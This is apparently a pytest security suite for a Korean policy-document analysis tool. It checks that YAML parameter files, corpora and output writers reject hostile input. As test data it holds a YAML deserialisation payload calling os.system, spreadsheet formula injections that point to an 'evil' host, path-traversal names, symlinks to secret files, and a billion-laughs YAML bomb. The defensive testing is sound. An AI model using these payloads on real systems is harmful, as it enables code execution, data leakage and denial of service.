"""Issue 12: a corpus or a parameter file from someone else cannot run code, leak files or
corrupt output. Each test reproduces one attack of the issue and checks that it fails.

Memory limits are measured in a child process with the ``resource`` module (its peak
resident set size), never timed; the child also runs under an address-space cap so that
a regression fails the test instead of exhausting the machine.
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import polars as pl
import pytest

from kpolicy import pipeline, safety
from kpolicy.cli import emit
from kpolicy.corpus import load_corpus, read_catalog
from kpolicy.errors import KpolicyError
from kpolicy.report import load_batch, write_table

GOOD = "Ulsan Hydrogen Plan\n\nUlsan City will invest 5 billion won in hydrogen stations by 2027.\n"
GB = 1024**3
# Peak memory allowed for a CLI run on hostile input: 1 GiB of our own work plus the
# Korean analyser's model, which is resident once any Korean text is tokenised (kiwipiepy
# 0.24's "cong" model: 520 MiB peak for a process that only loads it and tokenises one
# sentence, against 50 MiB for kpolicy alone). A fixed cost, not one that grows with input.
PEAK_LIMIT_MB = 1024 + 512


def child_peak_mb(code: str, tmp_path: Path, limit_bytes: int = 3 * GB) -> tuple[int, float, str]:
    """Run ``code`` in a fresh interpreter under an address-space cap.

    Returns:
        ``(exit code, peak RSS of the child in MiB, stderr)``; the child prints its
        ``ru_maxrss`` last.
    """
    script = tmp_path / "child.py"
    script.write_text(
        "import resource, sys\n"
        f"resource.setrlimit(resource.RLIMIT_AS, ({limit_bytes}, {limit_bytes}))\n"
        "try:\n" + textwrap.indent(textwrap.dedent(code), "    ") + "\n"
        "finally:\n"
        "    print('PEAK', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)\n"
    )
    proc = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, timeout=600)
    peaks = [line.split()[1] for line in proc.stdout.splitlines() if line.startswith("PEAK ")]
    return proc.returncode, int(peaks[-1]) / 1024 if peaks else float("inf"), proc.stdout + proc.stderr


# ---------------------------------------------------------------------------------
# 1. Config is data, never code
# ---------------------------------------------------------------------------------


def batch_with(tmp_path: Path, params_text: str, name: str = "x", notebook: str = "10_region_profile.ipynb") -> Path:
    params = tmp_path / "p.yaml"
    params.write_text(params_text)
    batch = tmp_path / "batch.yaml"
    batch.write_text(f"runs:\n  - name: {json.dumps(name)}\n    notebook: {notebook}\n    params: {params}\n")
    return batch


PAYLOAD = base64.b64encode(b"\" if __import__('os').system('touch X') else 'x' #").decode()


@pytest.mark.parametrize(
    ("params_text", "message"),
    [
        (f"corpus_dir: seeds\ntop_n: !!binary {PAYLOAD}\n", r"p\.yaml:2: YAML tags \(!!binary\) are not allowed"),
        ("corpus_dir: seeds\ntop_n: !!python/object/apply:os.system ['touch X']\n", r"p\.yaml:2: YAML tags \(!!python/object/apply:os\.system\) are not allowed"),
        ("corpus_dir: !custom seeds\n", r"p\.yaml:1: YAML tags \(!custom\) are not allowed"),
        ("corpus_dir: !!str seeds\n", r"p\.yaml:1: YAML tags \(!!str\) are not allowed"),
        ("corpus_dir: &a seeds\nregion: *a\n", r"p\.yaml:1: YAML anchors \(&a\) are not allowed"),
        ("top_n: 3\ntop_n: 4\n", r"p\.yaml:2: the key 'top_n' appears twice"),
    ],
)
def test_params_file_is_plain_data(tmp_path: Path, params_text: str, message: str) -> None:
    with pytest.raises(KpolicyError, match=message) as info:
        load_batch(batch_with(tmp_path, params_text), regions=["Busan"])
    assert "\n" not in str(info.value)


@pytest.mark.parametrize(
    ("params_text", "message"),
    [
        ("top_n: '15; import os'\n", r"parameter 'top_n' of 10_region_profile\.ipynb must be a whole number \(like its default 15\), not '15; import os'"),
        ("top_n: 1.5\n", r"parameter 'top_n' .* must be a whole number"),
        ("top_n: true\n", r"parameter 'top_n' .* must be a whole number"),
        ("amount_basis: [literal]\n", r"parameter 'amount_basis' .* must be text \(like its default '"),
        ("corpus_dir: {a: 1}\n", r"parameter 'corpus_dir' .* must be text"),
        ("amount_basis: .nan\n", r"parameter 'amount_basis'"),
    ],
)
def test_params_values_match_the_declared_types(tmp_path: Path, params_text: str, message: str) -> None:
    with pytest.raises(KpolicyError, match=message):
        load_batch(batch_with(tmp_path, params_text), regions=["Busan"])


def test_params_of_none_default_take_plain_values_only(tmp_path: Path) -> None:
    # krw_per_usd and themes default to None: numbers, text and lists are fine, nothing else.
    (run,) = load_batch(batch_with(tmp_path, "krw_per_usd: 1350\nthemes: [ai]\nreference: [National]\n", notebook="20_compare_regions.ipynb"))
    assert run.parameters == {"krw_per_usd": 1350, "themes": ["ai"], "reference": ["National"]}
    with pytest.raises(KpolicyError, match=r"krw_per_usd.*not a finite number"):
        load_batch(batch_with(tmp_path, "krw_per_usd: .inf\n", notebook="20_compare_regions.ipynb"))


def test_dates_in_params_stay_text(tmp_path: Path) -> None:
    (run,) = load_batch(batch_with(tmp_path, "corpus_dir: 2020-01-01\n"), regions=["Busan"])
    assert run.parameters["corpus_dir"] == "2020-01-01"


@pytest.mark.parametrize("name", ["/../../../../outside/pwn", "../pwn", "a/b", "..", ".hidden", "a\\b", "x" * 101, "run name", ""])
def test_run_names_are_plain(tmp_path: Path, name: str) -> None:
    with pytest.raises(KpolicyError, match="is not a plain name"):
        load_batch(batch_with(tmp_path, "top_n: 3\n", name=name), regions=["Busan"])


def test_run_names_from_for_each_are_plain(tmp_path: Path) -> None:
    batch = tmp_path / "batch.yaml"
    batch.write_text("runs:\n  - name: 'p_{region}/../x'\n    notebook: 10_region_profile.ipynb\n    for_each: region\n")
    with pytest.raises(KpolicyError, match="is not a plain name"):
        load_batch(batch, regions=["Busan"])


def test_execute_run_refuses_to_write_outside_out(tmp_path: Path) -> None:
    """Defence in depth: even a Run built by hand cannot place files outside --out."""
    from kpolicy.paths import NOTEBOOKS_DIR
    from kpolicy.report import Run, execute_run

    run = Run("../../escape", NOTEBOOKS_DIR / "00_corpus_overview.ipynb", None, {})
    with pytest.raises(KpolicyError, match="is not a plain name"):
        execute_run(run, tmp_path / "out", tmp_path)
    assert not (tmp_path / "escape.ipynb").exists() and not list(tmp_path.parent.glob("escape*"))


# ---------------------------------------------------------------------------------
# 2. Spreadsheet formulas
# ---------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil","x")', "@SUM(1+1)", "+1+1", "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1"]


def test_csv_tables_hold_no_formulas(tmp_path: Path) -> None:
    df = pl.DataFrame({"title": [*FORMULAS, "plain", None], "n": [-1, 2, 3, 4, 5, 6, -7, 8],
                       "flags": [["=1"], [], ["a"], ["b"], [], [], [], None]})
    write_table(df, tmp_path / "tables" / "t")
    back = pl.read_csv(tmp_path / "tables" / "t.csv")
    assert back["title"].to_list() == [f"'{f}" for f in FORMULAS] + ["plain", None]
    assert back["n"].to_list() == [-1, 2, 3, 4, 5, 6, -7, 8]  # numbers stay numbers
    assert back["flags"][0] == "'=1"
    assert pl.read_parquet(tmp_path / "tables" / "t.parquet")["title"].to_list()[:6] == FORMULAS  # Parquet keeps the data


def test_cli_csv_holds_no_formulas(tmp_path: Path, capsys) -> None:
    df = pl.DataFrame({"title": FORMULAS, "x": [1.5] * len(FORMULAS)})
    emit(df, "csv", None)
    cells = pl.read_csv(capsys.readouterr().out.encode())["title"].to_list()
    assert all(c.startswith("'") for c in cells), cells
    emit(df, "csv", str(tmp_path / "t.csv"))
    assert all(c.startswith("'") for c in pl.read_csv(tmp_path / "t.csv")["title"])


def test_formula_titles_from_a_corpus_are_neutralised(tmp_path: Path, capsys) -> None:
    from kpolicy.cli import main

    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "a.txt").write_text('=HYPERLINK("http://evil/?"&A1,"Click")\n\nBusan will invest 5 billion won.\n')
    assert main(["corpus", "--corpus", str(tmp_path / "c"), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert ",=HYPERLINK" not in out and "\"'=HYPERLINK" in out


# ---------------------------------------------------------------------------------
# 3. Files outside the corpus
# ---------------------------------------------------------------------------------


@pytest.mark.skipif(os.name != "posix", reason="symlinks")
def test_symlinks_out_of_the_corpus_are_rejected(tmp_path: Path) -> None:
    secret_dir = tmp_path / "elsewhere"
    secret_dir.mkdir()
    (secret_dir / "secret.txt").write_text("TOP SECRET password hunter2\n")
    (tmp_path / "passwd").write_text("root:x:0:0:SECRET-ROOT-LINE\n")
    corpus = tmp_path / "corpus"
    (corpus / "sub").mkdir(parents=True)
    (corpus / "good.txt").write_text(GOOD)
    (corpus / "rootdir").symlink_to(secret_dir, target_is_directory=True)
    (corpus / "passwd.txt").symlink_to(tmp_path / "passwd")
    (corpus / "sub" / "up").symlink_to(tmp_path, target_is_directory=True)
    (corpus / "inner.txt").symlink_to(corpus / "good.txt")  # inside: allowed (a duplicate)
    loaded = load_corpus(corpus)
    assert loaded.documents["doc_id"].to_list() == ["good"]
    rejects = dict(zip(loaded.rejects["path"], loaded.rejects["reason"].cast(pl.String)))
    assert rejects == {"passwd.txt": "outside_corpus", "rootdir": "outside_corpus", "sub/up": "outside_corpus"}
    assert "outside the corpus folder" in loaded.rejects["detail"][0]
    assert loaded.duplicates["path"].to_list() == ["inner.txt"]
    everything = loaded.documents.write_ndjson() + loaded.sentences.write_ndjson() + loaded.rejects.write_ndjson()
    assert "SECRET" not in everything and "hunter2" not in everything
    loaded.check_accounting()


@pytest.mark.skipif(os.name != "posix", reason="symlinks")
def test_a_symlinked_corpus_root_is_still_its_own_boundary(tmp_path: Path) -> None:
    real = tmp_path / "real"
    real.mkdir()
    (real / "good.txt").write_text(GOOD)
    (tmp_path / "link").symlink_to(real, target_is_directory=True)
    assert load_corpus(tmp_path / "link").documents.height == 1


# ---------------------------------------------------------------------------------
# 4. Memory, with limits of its own
# ---------------------------------------------------------------------------------

LAUGHS = "good:\n  notes:\n    - &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"    - &{c} [{', '.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi")
)


def test_billion_laughs_catalog_is_refused_in_bounded_memory(tmp_path: Path) -> None:
    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "good.txt").write_text(GOOD)
    (tmp_path / "c" / "catalog.yaml").write_text(LAUGHS)
    assert len(LAUGHS) < 1100
    code = f"""
    from kpolicy.cli import main
    sys.exit(main(["corpus", "--corpus", {str(tmp_path / 'c')!r}]))
    """
    rc, peak, out = child_peak_mb(code, tmp_path)
    assert rc == 2, out
    assert "catalog.yaml:3: YAML anchors (&a) are not allowed" in out
    assert peak < PEAK_LIMIT_MB, f"peak {peak:.0f} MiB"


def test_deeply_nested_catalog_is_one_line(tmp_path: Path) -> None:
    path = tmp_path / "catalog.yaml"
    path.write_text("a: " + "[" * 20000 + "]" * 20000 + "\n")
    with pytest.raises(KpolicyError, match=r"catalog\.yaml:1: nested more than \d+ levels deep"):
        read_catalog(path)
    path.write_text("a:\n" + "".join("  " * i + f"k{i}:\n" for i in range(1, 400)))
    with pytest.raises(KpolicyError, match=r"catalog\.yaml:\d+: nested more than"):
        read_catalog(path)


def test_oversized_catalog_is_refused_before_parsing(tmp_path: Path, monkeypatch) -> None:
    from kpolicy import metadata

    monkeypatch.setattr(metadata, "MAX_CATALOG_BYTES", 1000)
    path = tmp_path / "catalog.yaml"
    path.write_text("# " + "x" * 2000 + "\n")
    with pytest.raises(KpolicyError, match=r"catalog\.yaml: the catalog is over the limit of 1,000 bytes"):
        read_catalog(path)


def test_catalog_aliases_and_tags_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "catalog.yaml"
    path.write_text("a: &x {title: T}\nb: *x\n")
    with pytest.raises(KpolicyError, match=r"catalog\.yaml:1: YAML anchors"):
        read_catalog(path)
    path.write_text("a:\n  title: !!binary aGk=\n")
    with pytest.raises(KpolicyError, match=r"catalog\.yaml:2: YAML tags \(!!binary\)"):
        read_catalog(path)


def test_a_document_dense_with_amounts_is_rejected_in_bounded_memory(tmp_path: Path) -> None:
    folder = tmp_path / "c"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD)
    (folder / "dense.txt").write_text("KRW 1 " * (10 * 1024 * 1024 // 6))
    code = f"""
    import kpolicy, polars as pl
    c = kpolicy.load_corpus({str(folder)!r})
    print("DOCS", c.documents["doc_id"].to_list())
    print("REJECTS", c.rejects["reason"].cast(pl.String).to_list(), c.rejects["detail"].to_list())
    print("AMOUNTS", c.facts("amounts").height)
    """
    rc, peak, out = child_peak_mb(code, tmp_path)
    assert rc == 0, out
    assert "DOCS ['good']" in out and "REJECTS ['too_many_figures']" in out and "AMOUNTS 1" in out
    assert "1,747,626 numbers, over the limit" in out
    assert peak < PEAK_LIMIT_MB, f"peak {peak:.0f} MiB"


def test_extract_of_dense_documents_stays_in_bounded_memory(tmp_path: Path) -> None:
    """Many documents just under the per-document cap: batches close on figures too."""
    lines = [json.dumps({"doc_id": f"d{i}", "text": f"Plan {i}. " + "KRW 1 " * 40_000}) for i in range(20)]
    (tmp_path / "d.jsonl").write_text("\n".join(lines) + "\n")
    code = f"""
    from kpolicy import pipeline
    s = pipeline.run({str(tmp_path / 'd.jsonl')!r}, {str(tmp_path / 'out')!r}, kinds=["amounts"])
    print("AMOUNTS", s.rows["amounts"], "BATCHES", s.batches, "DOCS", s.documents)
    """
    rc, peak, out = child_peak_mb(code, tmp_path)
    assert rc == 0, out
    assert "DOCS 20" in out and int(out.split("AMOUNTS ")[1].split()[0]) >= 20 * 39_000, out
    assert peak < PEAK_LIMIT_MB, f"peak {peak:.0f} MiB"


def test_a_huge_jsonl_line_is_not_read_whole(tmp_path: Path) -> None:
    path = tmp_path / "big.jsonl"
    with open(path, "wb") as fh:
        fh.write(b'{"doc_id": "ok1", "text": "Busan will invest 5 billion won."}\n')
        fh.write(b'{"doc_id": "huge", "text": "')
        chunk = b"a" * (1024 * 1024)
        for _ in range(500):
            fh.write(chunk)
        fh.write(b'"}\n{"doc_id": "ok2", "text": "Jeju will invest 7 billion won."}\n')
    code = f"""
    from kpolicy import corpus
    src = corpus.open_source({str(path)!r})
    for kind, item in src.items():
        print("ITEM", kind, item.doc_id if kind == "document" else (item["path"], item["reason"], item["detail"]))
    """
    rc, peak, out = child_peak_mb(code, tmp_path)
    assert rc == 0, out
    assert "ITEM document ok1" in out and "ITEM document ok2" in out
    assert "('big.jsonl:2', 'too_large', 'The line is over" in out
    assert peak < PEAK_LIMIT_MB, f"peak {peak:.0f} MiB"
    path.unlink()


# ---------------------------------------------------------------------------------
# 5. Extract output you can trust
# ---------------------------------------------------------------------------------


def small_corpus(folder: Path, n: int = 3) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for i in range(n):
        (folder / f"d{i}.txt").write_text(f"Plan {i}\n\nUlsan will invest {i + 1} billion won in hydrogen.\n")
    return folder


def test_two_extracts_on_one_out_folder(tmp_path: Path) -> None:
    corpus = small_corpus(tmp_path / "c")
    out = tmp_path / "out"
    with pipeline.OutLock(out):
        with pytest.raises(KpolicyError, match=r"another kpolicy extract \(pid \d+\) is writing .*out; wait for it"):
            pipeline.run(corpus, out)
    pipeline.run(corpus, out)  # released
    assert pipeline.read_tables(out)["documents"].collect().height == 3


def test_a_stale_lock_of_a_dead_process_is_taken_over(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / pipeline.LOCK).write_text("999999999")
    pipeline.run(small_corpus(tmp_path / "c"), out)
    assert not (out / pipeline.LOCK).exists()


def test_interrupted_rerun_is_never_complete(tmp_path: Path, monkeypatch) -> None:
    corpus = small_corpus(tmp_path / "c")
    out = tmp_path / "out"
    pipeline.run(corpus, out, kinds=["amounts"])
    calls = []

    def killed(path, *a, **k):  # the process dies while clearing the old parts
        calls.append(path)
        raise SystemExit("killed")

    monkeypatch.setattr(pipeline.shutil, "rmtree", killed)
    with pytest.raises(SystemExit):
        pipeline.run(corpus, out, kinds=["amounts"])
    assert calls
    with pytest.raises(KpolicyError, match="did not complete"):
        pipeline.read_tables(out)


def test_read_tables_verifies_the_manifest(tmp_path: Path) -> None:
    corpus = small_corpus(tmp_path / "c")
    out = tmp_path / "out"
    pipeline.run(corpus, out, kinds=["amounts"], batch_docs=2)
    info = json.loads((out / pipeline.MANIFEST).read_text())
    assert info["parts"]["amounts"] == [
        {"file": "part-00000.parquet", "rows": 2, "sha256": info["parts"]["amounts"][0]["sha256"]},
        {"file": "part-00001.parquet", "rows": 1, "sha256": info["parts"]["amounts"][1]["sha256"]},
    ]
    # A part from another run (the "1,500 in the manifest, 2,000 read back").
    stray = pl.read_parquet(out / "amounts" / "part-00000.parquet")
    stray.write_parquet(out / "amounts" / "part-00002.parquet")
    with pytest.raises(KpolicyError, match=r"amounts/part-00002\.parquet is not listed in the manifest; .*run kpolicy extract again"):
        pipeline.read_tables(out)
    (out / "amounts" / "part-00002.parquet").unlink()
    # An edited part.
    stray.with_columns(pl.col("amount_krw") * 1000).write_parquet(out / "amounts" / "part-00000.parquet")
    with pytest.raises(KpolicyError, match=r"amounts/part-00000\.parquet does not match the manifest"):
        pipeline.read_tables(out)
    (out / "amounts" / "part-00000.parquet").unlink()
    with pytest.raises(KpolicyError, match=r"amounts/part-00000\.parquet is missing"):
        pipeline.read_tables(out)


def test_extract_refuses_an_out_folder_that_holds_the_corpus(tmp_path: Path) -> None:
    out = tmp_path / "out"
    pipeline.run(small_corpus(tmp_path / "c"), out)
    corpus = small_corpus(out / "documents" / "mine")  # a corpus inside an earlier output
    with pytest.raises(KpolicyError, match="holds the corpus"):
        pipeline.run(corpus, out)
    assert sorted(p.name for p in corpus.iterdir()) == ["d0.txt", "d1.txt", "d2.txt"]
    source = out / "rejects" / "docs.jsonl"
    source.parent.mkdir(exist_ok=True)
    source.write_text('{"doc_id": "a", "text": "Busan will invest 5 billion won."}\n')
    with pytest.raises(KpolicyError, match="holds the corpus"):
        pipeline.run(source, out)
    assert source.is_file()


# ---------------------------------------------------------------------------------
# 6. Listing writes are atomic and guarded
# ---------------------------------------------------------------------------------

DF = pl.DataFrame({"doc_id": ["a", "b"], "n": [1, 2]})


@pytest.mark.parametrize("failure", [KeyboardInterrupt, lambda: OSError(28, "No space left on device")])
def test_interrupted_or_failed_write_keeps_the_previous_file(tmp_path: Path, monkeypatch, failure) -> None:
    out = tmp_path / "facts.parquet"
    emit(DF, "parquet", str(out))
    before = out.read_bytes()
    real = pl.DataFrame.write_parquet

    def dies_half_way(self, file, *a, **k):
        Path(file).write_bytes(b"")  # truncated, as when SIGTERM or a full disk hits
        raise failure()

    monkeypatch.setattr(pl.DataFrame, "write_parquet", dies_half_way)
    with pytest.raises((KeyboardInterrupt, KpolicyError)):
        emit(DF.head(1), "parquet", str(out))
    monkeypatch.setattr(pl.DataFrame, "write_parquet", real)
    assert out.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["facts.parquet"]  # no temporary left behind


def test_full_disk_on_text_output_is_one_line(tmp_path: Path, monkeypatch) -> None:
    out = tmp_path / "facts.csv"
    emit(DF, "csv", str(out))
    before = out.read_text()

    def full(*a, **k):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(safety.os, "fsync", full)
    with pytest.raises(KpolicyError, match=r"cannot write .*facts\.csv: No space left on device; the previous file .* is unchanged"):
        emit(DF.head(1), "csv", str(out))
    assert out.read_text() == before


@pytest.mark.skipif(os.name != "posix", reason="signals")
def test_sigterm_during_a_listing_write_keeps_the_previous_file(tmp_path: Path) -> None:
    import signal
    import time

    out = tmp_path / "F.parquet"
    code = f"""
    import os, signal, time, polars as pl
    from kpolicy.cli import emit
    big = pl.DataFrame({{"x": list(range(3_000_000))}})
    real = pl.DataFrame.write_parquet
    def slow(self, file, *a, **k):
        open(file, "wb").close()
        print("WRITING", flush=True)
        time.sleep(30)
        real(self, file, *a, **k)
    pl.DataFrame.write_parquet = slow
    emit(big, "parquet", {str(out)!r})
    """
    pl.DataFrame({"x": [1, 2, 3]}).write_parquet(out)
    before = out.read_bytes()
    script = tmp_path / "w.py"
    script.write_text(textwrap.dedent(code))
    proc = subprocess.Popen([sys.executable, str(script)], stdout=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() == "WRITING"
    time.sleep(0.2)
    proc.send_signal(signal.SIGTERM)
    proc.wait(timeout=60)
    assert out.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_listing_out_may_not_be_inside_the_corpus(tmp_path: Path) -> None:
    corpus = tmp_path / "c"
    corpus.mkdir()
    (corpus / "a.txt").write_text(GOOD)
    with pytest.raises(KpolicyError, match=r"--out .*a\.txt is inside the corpus folder .*; write it somewhere else"):
        emit(DF, "csv", str(corpus / "a.txt"), corpus_root=corpus)
    assert (corpus / "a.txt").read_text() == GOOD


@pytest.mark.parametrize(
    ("fmt", "name", "message"),
    [
        ("csv", "x.parquet", r"--format csv does not match the file extension '\.parquet' of .*x\.parquet; use --format parquet"),
        ("parquet", "x.csv", r"--format parquet does not match the file extension '\.csv'"),
        ("jsonl", "x.json", r"--format jsonl does not match the file extension '\.json'"),
    ],
)
def test_format_must_match_the_extension(tmp_path: Path, fmt: str, name: str, message: str) -> None:
    with pytest.raises(KpolicyError, match=message):
        emit(DF, fmt, str(tmp_path / name))


def test_out_naming_a_folder_or_a_missing_parent_is_exit_2(tmp_path: Path, capsys) -> None:
    from kpolicy.cli import main

    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "a.txt").write_text(GOOD)
    assert main(["corpus", "--corpus", str(tmp_path / "c"), "--format", "csv", "--out", str(tmp_path)]) == 2
    assert f"{tmp_path} is a folder; give a file name" in capsys.readouterr().err
    assert main(["corpus", "--corpus", str(tmp_path / "c"), "--format", "csv", "--out", str(tmp_path / "no" / "x.csv")]) == 2
    assert "the folder" in capsys.readouterr().err


def test_relative_paths_resolve_against_the_current_folder(tmp_path: Path, monkeypatch) -> None:
    from kpolicy import paths

    monkeypatch.chdir(tmp_path)
    assert paths.resolve("docs", paths.SEEDS_DIR) == tmp_path / "docs"
    with pytest.raises(KpolicyError, match="corpus folder not found: docs"):
        load_corpus("docs")
    monkeypatch.chdir(paths.NOTEBOOKS_DIR)  # notebooks (nbval) still find the seeds
    assert paths.resolve("seeds", paths.SEEDS_DIR) == paths.SEEDS_DIR


@pytest.mark.parametrize("field", ["doc_id", "title"])
def test_a_lone_surrogate_in_a_record_is_a_reject_not_a_crash(tmp_path: Path, field: str) -> None:
    record = {"doc_id": "bad", "text": "Busan will invest 5 billion won.", field: "x\udc80y"}
    lines = [json.dumps({"doc_id": "ok", "text": "Jeju will invest 7 billion won."}), json.dumps(record)]
    (tmp_path / "d.jsonl").write_text("\n".join(lines) + "\n")
    summary = pipeline.run(tmp_path / "d.jsonl", tmp_path / "out")
    assert (summary.documents, summary.rejects) == (1, 1)
    rejects = pipeline.read_tables(tmp_path / "out")["rejects"].collect()
    assert rejects["reason"].cast(pl.String).to_list() == ["undecodable"]
    assert f"The record's {field} holds a lone surrogate" in rejects["detail"][0]
